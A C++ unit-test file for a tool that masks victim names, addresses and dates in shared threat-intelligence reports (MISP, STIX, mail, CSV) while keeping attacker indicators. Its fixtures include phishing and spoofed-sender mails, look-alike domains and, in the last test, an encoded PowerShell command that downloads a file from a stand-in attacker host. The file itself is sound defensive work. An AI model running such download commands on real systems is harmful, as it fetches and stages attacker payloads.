// Reports of every format through the door: what stays valid, what follows, what is refused.
#include <gtest/gtest.h>

#include <algorithm>

#include "engine/inspect/extract/extractor.h"
#include "engine/mask/masking.h"

namespace sekimori::mask {
namespace {

constexpr std::string_view roster_text =
    R"({"version":1,"sigs":[{"id":"s","ja":"重工","en":"Heavy"}],"industries":[{"id":"E","ja":"製造分野"}],"organisations":[
{"id":"m-1","names":["株式会社霧島精機"],"kana":["キリシマセイキ"],"english":["Kirishima Seiki Co., Ltd."],"domains":["kirishima-seiki.example"],"ips":["203.0.113.0/24"],
 "people":[{"name":"八重樫 航","kana":"ヤエガシ ワタル","mail":["w.yaegashi@kirishima-seiki.example"]}],"industry":"E","prefecture":"神奈川県","sigs":["s"]},
{"id":"m-2","names":["朝凪電工"],"sigs":["s"]},{"id":"m-3","names":["白嶺重化"],"sigs":["s"]},{"id":"m-4","names":["蒼海製鋼"],"sigs":["s"]}],"cleared":["partner.example"]})";

class FormatsTest : public ::testing::Test {
 protected:
  FormatsTest() : roster_(Roster::parse(roster_text).value()) {}
  Result<Report> read(const std::string& name, std::string_view bytes) {
    inspect::ExtractionLimits limits;
    limits.correspondence = true;
    return report_of(inspect::extract_bytes(name, as_bytes(bytes), limits));
  }
  Masking mask(const std::string& name, std::string_view bytes) {
    const Report report = read(name, bytes).value();
    MaskingPolicy policy{
        .key = Sensitive<Bytes>(Bytes(32, Byte(9))), .audience = "s", .member = "m-1", .today = *Day::from_date(2026, 11, 28)};
    return mask_report(report, roster_, policy, {}).value();
  }
  static void expect_gone(const Masking& done, std::initializer_list<const char*> words) {
    ASSERT_TRUE(done.released) << (done.refused ? done.refused->message : "") << done.share.dump();
    for (const char* word : words) EXPECT_EQ(done.share.dump().find(word), std::string::npos) << word << "\n" << done.share.dump();
  }
  static void expect_kept(const Masking& done, std::initializer_list<const char*> words) {
    for (const char* word : words) EXPECT_NE(done.share.dump().find(word), std::string::npos) << word << "\n" << done.share.dump();
  }
  Roster roster_;
};

// What MISP answers to a search for attributes or objects has no event around it.
TEST_F(FormatsTest, attributes_and_objects_without_an_event_are_one) {
  constexpr std::string_view attributes =
      R"({"response":{"Attribute":[{"type":"domain","value":"bad.com"},{"type":"email-dst","value":"w.yaegashi@kirishima-seiki.example"}]}})";
  constexpr std::string_view objects =
      R"({"response":[{"Object":{"name":"url","Attribute":[{"type":"url","value":"http://bad.com/x"},{"type":"comment","value":"霧島精機へ"}]}}]})";
  for (const auto& [text, kept] : {std::pair{attributes, "bad.com"}, std::pair{objects, "http://bad.com/x"}}) {
    const auto report = read("a.json", text);
    ASSERT_TRUE(report) << report.error().message;
    EXPECT_EQ(report->format, ReportFormat::misp);
    const Masking done = mask("a.json", text);
    expect_gone(done, {"kirishima", "霧島"});
    expect_kept(done, {kept});
  }
}

TEST_F(FormatsTest, a_bundle_loses_the_victims_observables_and_references_follow) {
  const Masking done = mask("a.json", R"({"type":"bundle","id":"bundle--00000000-0000-4000-8000-000000000000","objects":[
    {"type":"identity","spec_version":"2.1","id":"identity--00000000-0000-4000-8000-000000000001","created":"2026-11-03T01:02:03.000Z","modified":"2026-11-03T01:02:03.000Z","name":"株式会社霧島精機","identity_class":"organization","contact_information":"03-1111-2222"},
    {"type":"email-addr","spec_version":"2.1","id":"email-addr--00000000-0000-4000-8000-000000000002","value":"hr@bad.com"},
    {"type":"email-addr","spec_version":"2.1","id":"email-addr--00000000-0000-4000-8000-000000000003","value":"somebody@unknown.example"},
    {"type":"email-message","spec_version":"2.1","id":"email-message--00000000-0000-4000-8000-000000000004","is_multipart":false,"from_ref":"email-addr--00000000-0000-4000-8000-000000000002","to_refs":["email-addr--00000000-0000-4000-8000-000000000003"],"subject":"霧島精機 御中"},
    {"type":"indicator","spec_version":"2.1","id":"indicator--00000000-0000-4000-8000-000000000005","created_by_ref":"identity--00000000-0000-4000-8000-000000000001","created":"2026-11-03T01:02:05.000Z","modified":"2026-11-03T01:02:05.000Z","pattern":"[domain-name:value = 'bad.com']","pattern_type":"stix","valid_from":"2026-11-03T01:02:05.000Z"},
    {"type":"relationship","spec_version":"2.1","id":"relationship--00000000-0000-4000-8000-000000000006","created":"2026-11-03T01:02:05.000Z","modified":"2026-11-03T01:02:05.000Z","relationship_type":"related-to","source_ref":"indicator--00000000-0000-4000-8000-000000000005","target_ref":"email-addr--00000000-0000-4000-8000-000000000003"}]})");
  expect_gone(done, {"霧島", "unknown.example", "03-1111", "2026-11-03", "identity--00000000", "relationship--"});
  expect_kept(done, {"hr@bad.com", "[domain-name:value = 'bad.com']", "2026-11-01T00:00:02.000Z"});
  const Json& objects = done.share["content"]["objects"];
  std::string identity, author;
  for (const Json& object : objects.items()) {
    if (object["type"].text() == "identity") identity = object["id"].text();
    if (object["type"].text() == "indicator") author = object["created_by_ref"].text();
  }
  EXPECT_FALSE(identity.empty());
  EXPECT_EQ(identity, author);
}

TEST_F(FormatsTest, bundles_of_a_wrong_shape_are_refused) {
  const auto refused = [&](std::string_view text) {
    const auto report = read("a.json", text);
    if (!report) return report.error().code == ErrorCode::invalid_input;
    MaskingPolicy policy{.key = Sensitive<Bytes>(Bytes(32)), .audience = "s", .today = *Day::from_date(2026, 11, 28)};
    const auto done = mask_report(*report, roster_, policy, {});
    return !done && done.error().code == ErrorCode::invalid_input;
  };
  EXPECT_TRUE(refused(R"({"type":"bundle","id":"bundle--1","objects":[]})"));
  EXPECT_TRUE(refused(R"({"type":"bundle","id":"bundle--00000000-0000-4000-8000-000000000000","objects":{}})"));
  EXPECT_TRUE(refused(
      R"({"type":"bundle","id":"bundle--00000000-0000-4000-8000-000000000000","objects":[{"type":"file","id":"url--00000000-0000-4000-8000-000000000001"}]})"));
  EXPECT_TRUE(refused(
      R"({"type":"bundle","id":"bundle--00000000-0000-4000-8000-000000000000","objects":[{"type":"note","id":"note--00000000-0000-4000-8000-000000000001"},{"type":"note","id":"note--00000000-0000-4000-8000-000000000001"}]})"));
  EXPECT_TRUE(refused(
      R"({"type":"bundle","id":"bundle--00000000-0000-4000-8000-000000000000","objects":[{"type":"note","id":"note--00000000-0000-4000-8000-000000000001","object_refs":"x"}]})"));
  EXPECT_TRUE(refused(R"({"Event":{"Attribute":{}}})"));
  EXPECT_TRUE(refused(R"({"Event":)"));
  // Objects that refer to each other in a circle are fine: nothing follows them.
  EXPECT_FALSE(refused(
      R"({"type":"bundle","id":"bundle--00000000-0000-4000-8000-000000000000","objects":[{"type":"note","id":"note--00000000-0000-4000-8000-000000000001","object_refs":["note--00000000-0000-4000-8000-000000000001"]}]})"));
}

TEST_F(FormatsTest, an_event_loses_targets_and_creators) {
  const Masking done = mask(
      "e.json",
      R"({"Event":{"uuid":"00000000-0000-4000-8000-000000000000","info":"霧島精機への攻撃 2026-11-03","date":"2026-11-03","event_creator_email":"x@kirishima-seiki.example","Orgc":{"name":"霧島精機"},
    "Attribute":[{"type":"email-src","category":"Payload delivery","value":"hr@bad.com"},{"type":"email-dst","category":"Payload delivery","value":"kim@else.example"},
    {"type":"target-user","category":"Targeting data","value":"御手洗 舞"},{"type":"ip-src","category":"Network activity","value":"203.0.113.9"},{"type":"ip-dst","category":"Network activity","value":"198.51.100.9","comment":"御手洗が接続"}],
    "Object":[{"name":"file","meta-category":"file","Attribute":[{"type":"filename","category":"Payload delivery","value":"a.exe"}]}]}})");
  expect_gone(done, {"霧島", "else.example", "御手洗", "203.0.113.9", "kirishima", "11-03"});
  expect_kept(done, {"hr@bad.com", "198.51.100.9", "a.exe", "2026-11-01"});
}

TEST_F(FormatsTest, a_table_keeps_its_shape) {
  const Masking done = mask("l.csv",
                            "time,recipient,端末,url,memo\n2026-11-03 "
                            "10:00:00,kim@else.example,NB-1,https://bad.com/a?id=a2ltQGVsc2UuZXhhbXBsZQ,\"kim, 2026-11-03\"\n");
  expect_gone(done, {"else.example", "NB-1", "a2ltQ", "11-03"});
  const auto table = parse_csv(done.share["content"].text(), "x");
  ASSERT_TRUE(table);
  ASSERT_EQ(table->rows.size(), 1U);
  EXPECT_EQ(table->header, (std::vector<std::string>{"time", "recipient", "端末", "url", "memo"}));
  EXPECT_TRUE(table->rows[0].cells[3].starts_with("https://bad.com/a?id=["));
  EXPECT_EQ(table->rows[0].cells[0], "[2026年11月 T+0日00:00:00]");
}

TEST_F(FormatsTest, the_members_own_mail_around_an_attack_is_its_report) {
  const Masking done = mask(
      "outer.eml",
      "From: CSIRT <csirt@kirishima-seiki.example>\nTo: hub@example.jp\nSubject: Fw: report\nContent-Type: multipart/mixed; boundary=b\n\n"
      "--b\nContent-Type: text/plain; charset=UTF-8\n\n八重樫が受け取ったメールを送ります。\n"
      "--b\nContent-Type: message/rfc822\n\nFrom: hr@bad.com\nTo: w.yaegashi@kirishima-seiki.example\nSubject: hello\n\nDear Mr. "
      "Yaegashi\n--b--\n");
  expect_gone(done, {"kirishima", "八重樫", "aegashi", "csirt"});
  expect_kept(done, {"hr@bad.com", "受け取ったメールを送ります", "hello"});
  const Json& messages = done.share["content"]["messages"];
  ASSERT_EQ(messages.items().size(), 2U);
  EXPECT_EQ(messages.items()[0]["role"].text(), "carrier");
  EXPECT_EQ(messages.items()[1]["role"].text(), "attack");
}

TEST_F(FormatsTest, a_reply_of_the_desk_says_only_that_there_was_one) {
  const Masking done =
      mask("outer.eml",
           "From: CSIRT <csirt@kirishima-seiki.example>\nTo: hub@example.jp\nSubject: Fw\nContent-Type: multipart/mixed; boundary=b\n\n"
           "--b\nContent-Type: text/plain; charset=UTF-8\n\n報告します。\n"
           "--b\nContent-Type: message/rfc822\n\nFrom: desk@kirishima-seiki.example\nTo: lure@bad.com\nSubject: Re: inquiry\nDate: Tue, 3 "
           "Nov 2026 10:15:00 +0900\n\n展示会のブース7番でお待ちします。\n"
           "--b\nContent-Type: message/rfc822\n\nFrom: lure@bad.com\nTo: desk@kirishima-seiki.example\nSubject: inquiry\n\nWhere can we "
           "meet?\n--b--\n");
  expect_gone(done, {"kirishima", "展示会", "ブース"});
  expect_kept(done, {"lure@bad.com", "Where can we meet?", "\"role\":\"reply\""});
}

TEST_F(FormatsTest, mail_in_our_own_name_from_outside_is_an_attack) {
  const Masking done =
      mask("s.eml",
           "Received: from bad.com (bad.com [198.51.100.7]) by mx.kirishima-seiki.example; Tue, 3 Nov 2026 10:15:01 +0900\n"
           "Authentication-Results: mx.kirishima-seiki.example; spf=fail smtp.mailfrom=kirishima-seiki.example; dmarc=fail\n"
           "From: 総務部 <soumu@kirishima-seiki.example>\nTo: w.yaegashi@kirishima-seiki.example\nSubject: pay\n\nhttp://bad.com/x\n");
  expect_gone(done, {"kirishima", "soumu"});
  expect_kept(done, {"\"role\":\"attack\"", "198.51.100.7", "http://bad.com/x", "\"spf\":\"fail\""});
}

TEST_F(FormatsTest, an_imitated_sender_is_a_third_party_unless_cleared) {
  const auto from = [&](const std::string& domain) {
    return mask("s.eml",
                "Return-Path: <x@bad.com>\nAuthentication-Results: mx.kirishima-seiki.example; spf=softfail smtp.mailfrom=" + domain +
                    "; dmarc=fail\nFrom: <sales@" + domain + ">\nTo: w.yaegashi@kirishima-seiki.example\nSubject: x\n\nhello\n");
  };
  expect_gone(from("supplier.example"), {"supplier.example"});
  expect_kept(from("partner.example"), {"sales@partner.example"});
}

TEST_F(FormatsTest, pasted_headers_follow_the_rules_of_mail) {
  const Masking done = mask("r.txt",
                            "ヘッダは次のとおりです。\nReceived: from bad.com (bad.com [198.51.100.7])\n\tby mx3.hosting.example (Postfix) "
                            "for <kim@else.example>; Tue, 3 Nov 2026 10:15:01 +0900\n"
                            "X-Else-Gateway: else-gw7\nFrom: <hr@bad.com>\nTo: Kim Berger <kim@else.example>\nMessage-ID: "
                            "<1@bad.com>\n\nBerger さんが開きました。\n");
  expect_gone(done, {"else.example", "else-gw7", "hosting.example", "Berger", "Else-Gateway"});
  expect_kept(done, {"198.51.100.7", "hr@bad.com", "1@bad.com"});
}

TEST_F(FormatsTest, a_look_alike_loses_the_name_alone) {
  const Masking done = mask(
      "r.txt", "偽サイトは https://kirishirna-seiki.example.net/login 、https://kirishima-seiki-login.com/a です。C2は c2.bad.com です。");
  expect_gone(done, {"kirishirna", "kirishima"});
  expect_kept(done, {".example.net/login", "c2.bad.com"});
  EXPECT_TRUE(std::ranges::any_of(done.outcome.kept, [](const Kept& one) { return one.in_part; }));
}

TEST_F(FormatsTest, pictures_are_named_and_never_guessed) {
  const Masking done = mask(
      "p.eml",
      "From: hr@bad.com\nTo: w.yaegashi@kirishima-seiki.example\nContent-Type: multipart/mixed; boundary=b\n\n--b\n\nx\n--b\nContent-Type: "
      "image/png; name=p.png\nContent-Transfer-Encoding: base64\n\niVBORw0KGgoAAAANSUhEUg==\n--b--\n");
  ASSERT_EQ(done.outcome.unmaskable.size(), 1U);
  EXPECT_EQ(done.outcome.unmaskable[0].media_type, "image/png");
}

TEST_F(FormatsTest, received_lines_of_many_servers_are_read) {
  const Masking done =
      mask("r.eml",
           "Received: from AM6.eurprd04.prod.outlook.com (2603:10a6:800:4a::11) by VI1.eurprd04.prod.outlook.com with HTTPS; Tue, 3 Nov "
           "2026 10:15:06 +0900\n"
           "Received: from smtp.bad.com (198.51.100.14) by HE1.mail.protection.outlook.com (10.152.0.1) with Microsoft SMTP Server id "
           "15.20; Tue, 3 Nov 2026 10:15:04 +0900\n"
           "Received: from [198.51.100.99] (helo=kali) by smtp.bad.com with esmtpa (Exim 4.94) id 1a; Tue, 3 Nov 2026 10:15:01 +0900\n"
           "From: <hr@bad.com>\nTo: w.yaegashi@kirishima-seiki.example\nSubject: x\n\nhello\n");
  expect_gone(done, {"eurprd04", "2603:10a6", "10.152.0.1", "kirishima"});
  expect_kept(done, {"198.51.100.14", "198.51.100.99", "smtp.bad.com", "\"side\":\"boundary\""});
}

TEST_F(FormatsTest, a_recipient_in_the_path_of_a_link_leaves_the_rest_of_it) {
  const Masking done = mask("r.txt", "http://45.77.12.9/t/a2lyaXNoaW1hLXNlaWtpLmV4YW1wbGU/kim%40kirishima-seiki.example");
  expect_gone(done, {"kirishima", "a2lyaXNo", "kim%40"});
  expect_kept(done, {"http://45.77.12.9/t/["});
}

TEST_F(FormatsTest, a_script_in_base64_is_shown_without_the_name) {
  // "Invoke-WebRequest http://bad.com/x -OutFile a; # target Kirishima Seiki headquarters"
  const Masking done = mask(
      "r.txt",
      "powershell -enc SW52b2tlLVdlYlJlcXVlc3QgaHR0cDovL2JhZC5jb20veCAtT3V0RmlsZSBhOyAjIHRhcmdldCBLaXJpc2hpbWEgU2Vpa2kgaGVhZHF1YXJ0ZXJz");
  expect_gone(done, {"Kirishima", "S2lyaXNoaW1h"});
  expect_kept(done, {"http://bad.com/x"});
}

}  // namespace
}  // namespace sekimori::mask
